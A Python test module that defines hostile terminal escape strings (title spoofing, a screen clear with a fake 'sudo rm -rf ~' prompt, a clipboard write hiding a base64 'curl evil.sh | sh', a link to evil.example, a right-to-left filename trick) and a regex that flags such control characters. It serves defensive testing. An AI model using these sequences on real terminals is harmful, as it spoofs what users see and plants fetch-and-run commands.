"""Hostile strings for "outside text is data, never terminal control" tests, and the check.

Each family a terminal acts on, as a server, a proxy, a history file or a device name could
carry it, with words around them that must stay readable.
"""

from __future__ import annotations

import re

OSC_TITLE = "\x1b]0;PWNED\x07"
CLEAR_AND_FAKE_PROMPT = "\x1b[2J\x1b[H\x1b[12;1H$ sudo rm -rf ~"
SGR = "\x1b[31;1mred\x1b[0m"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
BIDI = "report\u202egnp.exe"
C1_CSI = "\x9b2J"  # the 8-bit CSI some terminals obey
HOSTILE = f"hello {OSC_TITLE}{CLEAR_AND_FAKE_PROMPT} {SGR} {OSC_CLIPBOARD}{OSC_LINK} {BIDI}{C1_CSI}"
READABLE = ("hello", "sudo", "red", "click", "reportgnp.exe")

# Anything a terminal obeys: C0 controls but newline, DEL, C1, bidi controls, separators.
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
)


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters found in `text` (empty when it is inert)."""
    return FORBIDDEN.findall(text)
